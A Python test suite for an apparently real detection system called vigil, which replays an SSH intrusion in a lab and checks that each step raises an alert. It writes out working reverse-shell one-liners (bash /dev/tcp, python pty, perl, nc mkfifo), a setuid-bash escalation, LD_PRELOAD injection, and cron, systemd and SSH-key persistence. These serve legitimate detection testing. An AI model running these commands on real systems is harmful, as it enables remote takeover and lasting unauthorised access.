"""The paper's case study, attacked for real, detected through the API.

A real ``vigil server`` and a real ``vigil sensor guest`` watch this machine; a real OpenSSH
server listens on loopback and on a veth link to an attacker network namespace. From that
namespace the attacker guesses a weak password with paramiko, logs in, opens reverse shells of
four kinds to its own listener and types commands through them, escalates through a setuid
shell, injects a library, plants cron, systemd and SSH-key persistence, runs a remote-access
tool (and a renamed copy), clears the logs and the history, and touches the decoys. Each step
must be an alert with its ATT&CK techniques and evidence, and all of them one incident.
Every change made to the machine is undone.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from tests.conftest import LiveServer, running_server
from tests.harness.attacker import Attacker
from tests.harness.figures import report
from tests.harness.pgcluster import free_port
from tests.harness.procs import VIGIL, http, spawn, stop, wait_until
from tests.harness.sshd import Sshd, have_sshd
from tests.harness.victim import WORDLIST, Victim
from tests.server.notify.helpers import Inbox, Receiver, serving_receiver, smtp_inbox

pytestmark = pytest.mark.skipif(not have_sshd() or not shutil.which("nc"),
                                reason="needs root, sshd, sshpass and nc (make test)")

SHELL_PORT = 4444


class Lab:
    def __init__(self, srv: LiveServer, sshd: Sshd, atk: Attacker, victim: Victim, base: Path,
                 scratch: Path, decoy_ssh: int, decoy_http: int, canary: Path) -> None:
        self.srv, self.sshd, self.atk, self.victim = srv, sshd, atk, victim
        self.base, self.scratch = base, scratch
        self.decoy_ssh, self.decoy_http, self.canary = decoy_ssh, decoy_http, canary
        self.latencies: dict[str, list[float]] = {}
        self.cleanup: list[Path] = []
        self.hook: Receiver | None = None
        self.inbox: Inbox | None = None
        #: alerts on what ran on this machine before the attack (not the attack's doing)
        self.before: set[int] = set()

    def alerts(self, **params: Any) -> list[dict[str, Any]]:
        query = "&".join(f"{k}={v}" for k, v in params.items())
        status, body = http("GET", f"{self.srv.url}/api/v1/alerts?limit=1000&{query}",
                            token=self.srv.admin_token)
        assert status == 200, body
        return list(body["items"])

    def wait_alert(self, scenario: str, since: float, predicate: Any, timeout: float = 20) -> Any:
        """The first alert matching ``predicate``; records the time from ``since``."""
        def found() -> Any:
            return [a for a in self.alerts() if predicate(a)]

        hits = wait_until(found, timeout=timeout, interval=0.05, what=f"the {scenario} alert")
        self.latencies.setdefault(scenario, []).append(time.time() - since)
        return hits

    def as_attacker(self, *commands: str) -> float:
        """Log in over SSH with the guessed password and run ``commands``; returns when the
        (last) command was started, by the attacker's own clock record."""
        truth = self.atk.run("ssh-exec", self.atk.host_ip, str(self.sshd.port), self.victim.name,
                             self.victim.password, *commands)
        return float([t for t in truth if t["action"] == "ssh-exec"][-1]["t"])


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
    base = tmp_path_factory.mktemp("attacks")
    tag = uuid.uuid4().hex[:6]
    scratch = Path(f"/tmp/vigil-attack-{tag}")  # noqa: S108  (where droppers put payloads)
    scratch.mkdir()
    scratch.chmod(0o1777)  # world-writable like /tmp: the attacker drops files here
    cleanup: list[Path] = []
    smtp_port = free_port()
    mail = {"VIGIL_SMTP_HOST": "127.0.0.1", "VIGIL_SMTP_PORT": str(smtp_port),
            "VIGIL_SMTP_FROM": "vigil@example.org", "VIGIL_NOTIFY_INTERVAL": "0.2"}
    with Victim(tag) as victim, Attacker(1) as atk, serving_receiver() as hook, \
            smtp_inbox(smtp_port) as inbox:
        victim.write(".bash_history", "ls\ncd /srv\nvi notes.txt\n" * 20)
        sshd = Sshd(base / "sshd", listen=("127.0.0.1", atk.host_ip)).start()
        sensor = None
        try:
            with running_server(base / "server", env=mail) as srv:
                _channels(srv, hook)
                enroll = srv.vigil("token", "enroll", "--tenant", "default")
                decoy_ssh, decoy_http = free_port(), free_port()
                canary = base / "decoys" / "aws-credentials"
                sensor = spawn([VIGIL, "sensor", "guest", "--server", srv.url, "--enroll-token",
                                enroll, "--state-dir", str(base / "sensor"), "--log", str(sshd.log),
                                "--decoy-ssh-port", str(decoy_ssh), "--decoy-http-port",
                                str(decoy_http), "--canary", str(canary)],
                               log=base / "sensor.log")
                lab = Lab(srv, sshd, atk, victim, base, scratch, decoy_ssh, decoy_http, canary)
                lab.cleanup = cleanup
                lab.hook, lab.inbox = hook, inbox
                wait_until(lambda: _events(lab, "sensor_started"), timeout=30, what="the sensor")
                wait_until(canary.exists, timeout=10, what="the canary file")
                time.sleep(3)  # let every baseline (history, persistence paths) be taken
                lab.before = {a["id"] for a in lab.alerts()}
                yield lab
                _report(lab)
        finally:
            stop(sensor)
            sshd.stop()
            for path in cleanup:
                path.unlink(missing_ok=True)
            shutil.rmtree(scratch, ignore_errors=True)


def _channels(srv: LiveServer, hook: Receiver) -> None:
    """A webhook for high and critical alerts and incidents, e-mail for incidents."""
    status, body = http("POST", f"{srv.url}/api/v1/notifications/channels", token=srv.admin_token,
                        body={"name": "soc", "kind": "webhook", "target": hook.url,
                              "tenant": "default", "min_severity": "high"})
    assert status == 201, body
    hook.secrets.append(body["signing_secret"])
    status, body = http("POST", f"{srv.url}/api/v1/notifications/channels", token=srv.admin_token,
                        body={"name": "cirt-mail", "kind": "email", "target": "cirt@example.org",
                              "tenant": "default", "min_severity": "high", "on_alerts": False})
    assert status == 201, body


def _events(lab: Lab, kind: str) -> list[dict[str, Any]]:
    status, body = http("GET", f"{lab.srv.url}/api/v1/events?kind={kind}", token=lab.srv.admin_token)
    return list(body["items"]) if status == 200 else []


def _report(lab: Lab) -> None:
    for scenario, values in lab.latencies.items():
        values = sorted(values)
        report(f"attack → alert in the API, {scenario}: median {values[len(values) // 2]:.2f} s, "
               f"max {values[-1]:.2f} s ({len(values)} alerts)")


def _has(*techniques: str) -> Any:
    return lambda alert: set(techniques) <= set(alert["techniques"])


def test_password_guessing_then_login(lab: Lab) -> None:
    wordlist = lab.base / "wordlist.txt"
    wordlist.write_text("\n".join(WORDLIST))
    truth = lab.atk.run("bruteforce", lab.atk.host_ip, str(lab.sshd.port), lab.victim.name,
                        str(wordlist))
    guesses = [t for t in truth if t["action"] == "ssh-guess"]
    assert guesses[-1]["ok"] and guesses[-1]["password"] == lab.victim.password
    assert len(guesses) == len(WORDLIST)
    fifth = guesses[4]["t"]
    (guess,) = lab.wait_alert("password guessing", fifth,
                              lambda a: a["rule_id"] == "ssh-password-guessing")
    assert guess["techniques"] == ["T1110.001"] and guess["src_ip"] == lab.atk.ip
    assert guess["evidence"]["failures"] >= 5 and lab.victim.name in guess["evidence"]["users"]
    (login,) = lab.wait_alert("login after failures", guesses[-1]["t"],
                              lambda a: a["rule_id"] == "ssh-login-after-failures")
    assert login["severity"] == "high" and login["techniques"] == ["T1078"]
    assert login["evidence"]["user"] == lab.victim.name and login["src_ip"] == lab.atk.ip


REVERSE_SHELLS = {
    "bash /dev/tcp": "bash -c 'bash -i >& /dev/tcp/{ip}/{port} 0>&1'",
    "python pty": "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"{ip}\",{port}));"
                  "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'",
    "perl": "perl -e 'use Socket;$i=\"{ip}\";$p={port};socket(S,PF_INET,SOCK_STREAM,"
            "getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){{open(STDIN,"
            "\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");}};'",
    "nc mkfifo": "rm -f {fifo}; mkfifo {fifo}; cat {fifo} | /bin/sh -i 2>&1 | nc {ip} {port} > {fifo}",
}


def test_reverse_shells_of_four_kinds(lab: Lab) -> None:
    listener = lab.atk.spawn("listen", str(SHELL_PORT), str(len(REVERSE_SHELLS)), "VIGIL", "--hold", "25")
    try:
        assert "listening" in listener.stdout.readline()  # type: ignore[union-attr]
        fifo = lab.scratch / "f"
        lab.cleanup.append(fifo)
        for form, template in REVERSE_SHELLS.items():
            before = {a["id"] for a in lab.alerts(rule_id="reverse-shell")}
            t0 = lab.as_attacker(template.format(ip=lab.atk.ip, port=SHELL_PORT, fifo=fifo))
            new = lab.wait_alert("reverse shell", t0, lambda a, b=before: a["rule_id"] == "reverse-shell"
                                 and a["id"] not in b and a["src_ip"] == lab.atk.ip)
            alert = new[0]
            assert {"T1059.004", "T1095", "T1571"} <= set(alert["techniques"]), form
            assert alert["evidence"]["c2"] == {"address": lab.atk.ip, "port": SHELL_PORT}, form
            assert alert["src_ip"] == lab.atk.ip
        lines = [listener.stdout.readline() for _ in range(2 * len(REVERSE_SHELLS) + 1)]  # type: ignore[union-attr]
        outputs = [line for line in lines if "shell-output" in line]
        assert len(outputs) == len(REVERSE_SHELLS)
        assert all(f"uid={lab.victim.uid}" in line for line in outputs), outputs  # typed `id`
    finally:
        stop(listener)
    # one process is one alert, in the shape it was first seen in (a bash that opened its
    # /dev/tcp socket but has not exec'd yet holds an outbound connection; after, its stdio is it)
    forms = {a["evidence"]["form"] for a in lab.alerts(rule_id="reverse-shell")}
    assert len(forms & {"stdio-socket", "outbound-connection", "interpreter-connection"}) >= 2


def test_setuid_escalation(lab: Lab) -> None:
    rootsh = lab.scratch / "rootsh"
    shutil.copy("/bin/bash", rootsh)
    os.chmod(rootsh, 0o4755)  # the misconfigured setuid binary
    t0 = lab.as_attacker(f"{rootsh} -p -c 'sleep 25'; true")
    (alert,) = lab.wait_alert("privilege escalation", t0,
                              lambda a: a["rule_id"] == "privilege-escalation")
    process = alert["evidence"]["process"]
    assert alert["severity"] == "critical" and alert["techniques"] == ["T1068"]
    assert process["euid"] == 0 and process["uid"] == lab.victim.uid
    assert alert["evidence"]["parent"].get("parent_uid", lab.victim.uid) == lab.victim.uid


def test_injection_and_fileless_execution(lab: Lab) -> None:
    lib = "/lib/x86_64-linux-gnu/libm.so.6"
    t0 = lab.as_attacker(f"LD_PRELOAD={lib} sleep 25")
    (alert,) = lab.wait_alert("LD_PRELOAD injection", t0,
                              lambda a: a["rule_id"] == "ld-preload-injection")
    assert alert["evidence"]["library"] == lib and "T1574.006" in alert["techniques"]
    dropper = lab.scratch / "dropper"
    shutil.copy("/bin/sleep", dropper)
    t0 = lab.as_attacker(f"{dropper} 25 & sleep 1; rm -f {dropper}")
    (alert,) = lab.wait_alert("fileless execution", t0, lambda a: a["rule_id"] == "fileless-execution"
                              and a["evidence"]["process"]["exe"] == str(dropper))
    assert alert["techniques"] == ["T1055"] and alert["evidence"]["where"] == "scratch-directory"


def test_persistence(lab: Lab) -> None:
    tag = lab.victim.name
    planted = {
        Path(f"/etc/cron.d/{tag}"): ("T1053.003", f"* * * * * root {lab.scratch}/rootsh -p\n"),
        Path(f"/etc/systemd/system/{tag}.service"): (
            "T1543.002", f"[Service]\nExecStart={lab.scratch}/chisel client {lab.atk.ip}:443\n"),
        lab.victim.home / ".ssh/authorized_keys": ("T1098.004", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5"
                                                   "AAAAIKu5Vigil attacker@evil\n"),
    }
    lab.cleanup.extend(planted)
    for path, (technique, text) in planted.items():
        t0 = time.time()
        if path.is_relative_to(lab.victim.home):
            lab.victim.write(str(path.relative_to(lab.victim.home)), text)
        else:
            path.write_text(text)
        (alert,) = lab.wait_alert("persistence", t0, lambda a, p=path: a["rule_id"] == "persistence"
                                  and a["evidence"]["path"] == str(p))
        assert alert["techniques"] == [technique], path
        assert alert["evidence"]["sha256"] and alert["evidence"]["change"] == "created"


def test_remote_access_tool_by_name_and_renamed(lab: Lab) -> None:
    chisel = lab.scratch / "chisel"
    chisel.write_bytes(Path("/bin/sleep").read_bytes() + os.urandom(64))  # a binary of its own
    chisel.chmod(0o755)
    t0 = lab.as_attacker(f"{chisel} 25")
    (alert,) = lab.wait_alert("remote-access tool", t0,
                              lambda a: a["rule_id"] == "remote-access-tool")
    assert alert["evidence"]["tool"] == "chisel" and alert["techniques"] == ["T1219"]
    renamed = lab.scratch / "kworker-upd"
    shutil.copy(chisel, renamed)
    t0 = lab.as_attacker(f"{renamed} 25")
    hits = lab.wait_alert("remote-access tool", t0, lambda a: a["rule_id"] == "remote-access-tool"
                          and a["evidence"]["matched_by"] == "learnt-hash")
    assert hits[0]["evidence"]["process"]["name"] == "kworker-upd"


def test_cover_tracks(lab: Lab) -> None:
    t0 = time.time()
    with open(lab.sshd.log, "r+") as log:  # `> /var/log/auth.log`
        log.truncate(0)
    hits = lab.wait_alert("log clearing", t0, lambda a: a["rule_id"] == "log-clearing"
                          and a["evidence"]["path"] == str(lab.sshd.log))
    assert hits[0]["techniques"] == ["T1070.002"]
    history = lab.victim.home / ".bash_history"
    t0 = time.time()
    with open(history, "r+") as handle:
        handle.truncate(0)
    hits = lab.wait_alert("log clearing", t0, lambda a: a["rule_id"] == "log-clearing"
                          and a["evidence"]["path"] == str(history))
    assert hits[0]["techniques"] == ["T1070.003"]
    t0 = lab.as_attacker("export HISTFILE=/dev/null; sleep 25")
    hits = lab.wait_alert("history disabled", t0, lambda a: a["rule_id"] == "history-disabled")
    assert set(hits[0]["techniques"]) == {"T1070.003", "T1562.003"}


def test_decoys_and_canary(lab: Lab) -> None:
    t0 = time.time()
    truth = lab.atk.run("probe-ssh", lab.atk.host_ip, str(lab.decoy_ssh))
    assert truth[0]["banner"].startswith("SSH-2.0-")
    (alert,) = lab.wait_alert("decoy", t0, lambda a: a["rule_id"] == "decoy-connection"
                              and a["evidence"]["decoy"] == "ssh")
    assert alert["src_ip"] == lab.atk.ip and "SSH-2.0-Go" in (alert["evidence"]["payload"] or "")
    t0 = time.time()
    lab.atk.run("probe-http", lab.atk.host_ip, str(lab.decoy_http), "admin", "Winter2026!")
    (alert,) = lab.wait_alert("decoy", t0, lambda a: a["rule_id"] == "decoy-login")
    assert alert["evidence"]["user"] == "admin" and alert["evidence"]["password"] == "Winter2026!"
    assert alert["src_ip"] == lab.atk.ip
    t0 = time.time()
    subprocess.run(["cat", str(lab.canary)], capture_output=True, check=True)
    (alert,) = lab.wait_alert("decoy", t0, lambda a: a["rule_id"] == "canary-file")
    assert alert["evidence"]["path"] == str(lab.canary) and alert["techniques"] == ["T1552.001"]


def test_everything_is_one_incident(lab: Lab) -> None:
    alerts = [a for a in lab.alerts() if a["id"] not in lab.before]
    assert {a["incident_id"] for a in alerts} and len({a["incident_id"] for a in alerts}) == 1
    status, incident = http("GET", f"{lab.srv.url}/api/v1/incidents/{alerts[0]['incident_id']}",
                            token=lab.srv.admin_token)
    assert status == 200
    assert incident["alert_count"] == len(alerts) and incident["severity"] == "critical"
    assert incident["tactics"][:6] == ["credential-access", "initial-access", "execution",
                                       "privilege-escalation", "persistence", "defense-evasion"]
    assert "command-and-control" in incident["tactics"]
    assert lab.atk.ip in incident["sources"]
    assert len([e for e in incident["timeline"] if e["type"] == "alert"]) == len(alerts)
    rules = {a["rule_id"] for a in alerts}
    assert rules >= {"ssh-password-guessing", "ssh-login-after-failures", "reverse-shell",
                     "privilege-escalation", "ld-preload-injection", "fileless-execution",
                     "persistence", "remote-access-tool", "log-clearing", "history-disabled",
                     "decoy-connection", "decoy-login", "canary-file"}


def test_notifications_were_sent(lab: Lab) -> None:
    """Every high or critical alert reached the webhook, signed; the incident was e-mailed."""
    assert lab.hook is not None and lab.inbox is not None
    loud = {a["id"] for a in lab.alerts() if a["severity"] in ("high", "critical")
            and a["id"] not in lab.before}

    def alerts_hooked() -> set[int]:
        return {r.json["subject"]["id"] for r in lab.hook.requests  # type: ignore[union-attr]
                if r.json["event"] == "alert.created"}

    wait_until(lambda: loud <= alerts_hooked(), timeout=30, what="the webhooks")
    assert all(r.signed for r in lab.hook.requests)
    events = {r.json["event"] for r in lab.hook.requests}
    assert "alert.created" in events
    # An incident opened by a medium alert (below the channel's threshold) is told when an
    # alert raises it to high: ``incident.updated`` instead of ``incident.created``.
    assert events & {"incident.created", "incident.updated"}, events
    (mail, *_) = lab.inbox.wait_for(1, timeout=30)
    text = mail.content.decode(errors="replace")
    assert "cirt@example.org" in mail.rcpt_tos and "[Vigil" in text
    status, body = http("GET", f"{lab.srv.url}/api/v1/notifications/deliveries?limit=1000",
                        token=lab.srv.admin_token)
    assert status == 200 and all(d["status"] == "delivered" for d in body["items"])
    report(f"notifications: {len(lab.hook.requests)} signed webhooks, "
           f"{len(lab.inbox.envelopes)} e-mails, every delivery delivered")
